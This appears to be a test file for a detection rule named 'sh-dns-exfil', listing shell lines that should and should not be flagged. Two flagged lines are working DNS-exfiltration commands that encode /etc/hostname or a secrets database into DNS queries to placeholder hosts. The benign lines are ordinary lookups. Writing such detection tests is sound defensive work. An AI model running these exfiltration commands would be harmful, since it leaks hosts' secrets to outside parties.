# ruleid: sh-dns-exfil
dig +short "$(cat /etc/hostname | base32 | tr -d =).x.exfil.example"
# ruleid: sh-dns-exfil
for c in $(xxd -p -c 30 secrets.db); do nslookup "$c.t.example.net"; done
# ok: sh-dns-exfil
dig +short api.example.com
# ok: sh-dns-exfil
nslookup $(hostname -f)
# ok: sh-dns-exfil
host -t MX example.org
# ok: sh-dns-exfil
dig @203.0.113.53 "$DOMAIN" SOA
